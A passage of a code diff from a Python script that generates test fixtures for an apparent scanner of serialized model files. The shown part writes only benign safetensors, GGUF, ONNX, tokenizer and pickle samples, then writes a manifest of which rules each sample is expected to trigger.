+    write("benign/model.safetensors", safetensors({"__metadata__": {"format": "pt"},
+                                                   "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
+                                                   "b": {"dtype": "BF16", "shape": [3], "data_offsets": [16, 22]}},
+                                                  b"\x00" * 22), "clean")
+    write("benign/model.gguf", gguf([("general.architecture", "qwen2"), ("tokenizer.ggml.tokens", ["a", "b", "<|im_end|>"]),
+                                     ("general.alignment", 32), ("tokenizer.chat_template", BENIGN_TEMPLATE)],
+                                    [("t", [4, 4], 0)]), "clean")
+    write("benign/tokenizer/tokenizer_config.json", json.dumps({"chat_template": BENIGN_TEMPLATE, "eos_token": "<|im_end|>"}).encode(),
+          "clean")
+    write("benign/model.onnx", onnx_model(location="model.onnx.data"), "clean")
+    write("benign/plain-data-proto0.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True), "c": b"bytes"}, 0), "clean")
+    for proto in (2, 3, 5):
+        write(f"benign/plain-data-proto{proto}.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": {1, 2}, "c": b"\x00" * 300}, proto),
+              "clean")
+
+
+def main():
+    os.makedirs(OUT, exist_ok=True)
+    section_a()
+    section_b()
+    section_c()
+    section_numpy_joblib()
+    section_torch()
+    section_keras()
+    section_other()
+    with open(os.path.join(OUT, "MANIFEST"), "w") as f:
+        f.write("# <path> <rule ids that must fire, comma-separated | clean | incomplete>\n")
+        f.write("# Generated by tools/make_serialized_fixtures.py; every line is one sample.\n")
+        for rel, expect in MANIFEST:
+            f.write(f"{rel} {expect}\n")
+    print(f"{len(MANIFEST)} fixtures in {os.path.normpath(OUT)}")
+
+
+if __name__ == "__main__":
+    main()
